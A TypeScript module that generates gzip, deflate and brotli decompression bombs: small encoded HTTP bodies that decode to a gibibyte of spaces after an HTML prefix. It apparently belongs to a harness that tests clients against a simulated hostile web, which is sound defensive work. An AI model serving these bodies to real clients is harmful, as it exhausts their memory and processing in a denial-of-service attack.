// Compression bombs: bodies whose decoded size is huge (1 GiB by default) while the wire size is
// small. Compressing a gibibyte byte by byte would take seconds, so each is built from pieces:
//
// - gzip allows concatenated members (RFC 1952 2.2), and decoders (zlib, undici, browsers)
//   decode them all: compress one 16 MiB segment once and repeat the member.
// - deflate (the zlib format of RFC 1950) has one stream and a checksum over everything, so the
//   raw deflate of a segment is made with a sync flush (byte-aligned, no final bit, no
//   references across segments), repeated, closed with an empty final block, and wrapped in a
//   zlib header and the Adler-32 of the whole body, computed in closed form.
// - brotli has no such seams; its fastest quality turns a gibibyte of spaces into ~200 KB in
//   ~150 ms, on the zlib thread pool, fed from one reused buffer.
//
// The decoded body is a short HTML prefix followed by spaces.

import { once } from 'node:events';
import { promisify } from 'node:util';
import { constants, createBrotliCompress, deflateRaw, gzip } from 'node:zlib';

export type BombEncoding = 'gzip' | 'deflate' | 'br';

export const BOMB_HTML_PREFIX = Buffer.from('<!doctype html><html><head><title>Bomb</title></head><body><p>');
const FILLER = 0x20; // a space
const SEGMENT_BYTES = 16 * 1024 * 1024;

const gzipAsync = promisify(gzip);
const deflateRawAsync = promisify(deflateRaw);

/** The encoded body whose decoding is `decodedBytes` long (at least the HTML prefix). */
export function buildBomb(encoding: BombEncoding, decodedBytes: number, signal: AbortSignal): Promise<Buffer> {
  if (decodedBytes < BOMB_HTML_PREFIX.length) throw new RangeError(`bomb: ${decodedBytes} bytes is too small`);
  if (encoding === 'gzip') return gzipBomb(decodedBytes);
  if (encoding === 'deflate') return deflateBomb(decodedBytes);
  return brotliBomb(decodedBytes, signal);
}

/** `length` bytes: the HTML prefix when `first`, then spaces. */
function segment(length: number, first: boolean): Buffer {
  const bytes = Buffer.alloc(length, FILLER);
  if (first) BOMB_HTML_PREFIX.copy(bytes);
  return bytes;
}

/** The body as segments: one first (with the prefix), some full ones, and a shorter last one. */
interface SegmentPlan {
  readonly firstBytes: number;
  readonly fullCount: number;
  readonly restBytes: number;
}

function planSegments(decodedBytes: number): SegmentPlan {
  const firstBytes = Math.min(decodedBytes, SEGMENT_BYTES);
  const after = decodedBytes - firstBytes;
  return { firstBytes, fullCount: Math.floor(after / SEGMENT_BYTES), restBytes: after % SEGMENT_BYTES };
}

/** Encodes the first, a full and the last segment once each, and lays them out per the plan. */
async function repeatSegments(decodedBytes: number, encode: (bytes: Buffer) => Promise<Buffer>): Promise<Buffer[]> {
  const plan = planSegments(decodedBytes);
  const first = await encode(segment(plan.firstBytes, true));
  const full = plan.fullCount > 0 ? await encode(segment(SEGMENT_BYTES, false)) : Buffer.alloc(0);
  const rest = plan.restBytes > 0 ? await encode(segment(plan.restBytes, false)) : Buffer.alloc(0);
  return [first, ...Array.from({ length: plan.fullCount }, () => full), rest];
}

async function gzipBomb(decodedBytes: number): Promise<Buffer> {
  return Buffer.concat(await repeatSegments(decodedBytes, (bytes) => gzipAsync(bytes, { level: 9 })));
}

// Header 0x78 0x9c: deflate with a 32 KiB window, default level; (0x789c % 31 === 0) as RFC 1950 asks.
const ZLIB_HEADER = Buffer.from([0x78, 0x9c]);
// An empty fixed-Huffman block with the final bit set: what zlib itself writes to finish after a flush.
const EMPTY_FINAL_BLOCK = Buffer.from([0x03, 0x00]);

async function deflateBomb(decodedBytes: number): Promise<Buffer> {
  const encode = (bytes: Buffer): Promise<Buffer> =>
    deflateRawAsync(bytes, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const blocks = await repeatSegments(decodedBytes, encode);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32OfPrefixAndFiller(decodedBytes));
  return Buffer.concat([ZLIB_HEADER, ...blocks, EMPTY_FINAL_BLOCK, checksum]);
}

const ADLER_MOD = 65521n;

/**
 * Adler-32 (RFC 1950 8.2) of the HTML prefix followed by spaces up to `totalBytes`. After the
 * prefix (a, b), n more bytes of value c give a' = a + n·c and b' = b + n·a + c·n(n+1)/2.
 */
export function adler32OfPrefixAndFiller(totalBytes: number): number {
  let a = 1n;
  let b = 0n;
  for (const byte of BOMB_HTML_PREFIX) {
    a = (a + BigInt(byte)) % ADLER_MOD;
    b = (b + a) % ADLER_MOD;
  }
  const n = BigInt(totalBytes - BOMB_HTML_PREFIX.length);
  const c = BigInt(FILLER);
  const a2 = (a + n * c) % ADLER_MOD;
  const b2 = (b + n * a + (c * n * (n + 1n)) / 2n) % ADLER_MOD;
  return Number((b2 << 16n) | a2);
}

const BROTLI_INPUT_BYTES = 1024 * 1024;

async function brotliBomb(decodedBytes: number, signal: AbortSignal): Promise<Buffer> {
  signal.throwIfAborted();
  const encoder = createBrotliCompress({
    params: {
      [constants.BROTLI_PARAM_QUALITY]: 1,
      [constants.BROTLI_PARAM_LGWIN]: 24,
      [constants.BROTLI_PARAM_SIZE_HINT]: Math.min(decodedBytes, 2 ** 30),
    },
  });
  const abort = (): void => {
    encoder.destroy(new Error('bomb build aborted: the hostile web closed'));
  };
  signal.addEventListener('abort', abort, { once: true });
  const parts: Buffer[] = [];
  encoder.on('data', (part: Buffer) => parts.push(part));
  const finished = once(encoder, 'end');
  // Awaited below; this only keeps a failure during the writes from going unhandled meanwhile.
  finished.catch(() => {});
  try {
    const filler = segment(BROTLI_INPUT_BYTES, false);
    let left = decodedBytes;
    for (let first = true; left > 0 && !signal.aborted; first = false) {
      const size = Math.min(left, BROTLI_INPUT_BYTES);
      const input = first ? segment(size, true) : filler.subarray(0, size);
      left -= size;
      if (!encoder.write(input)) await once(encoder, 'drain');
    }
    encoder.end();
    await finished;
    return Buffer.concat(parts);
  } finally {
    signal.removeEventListener('abort', abort);
  }
}
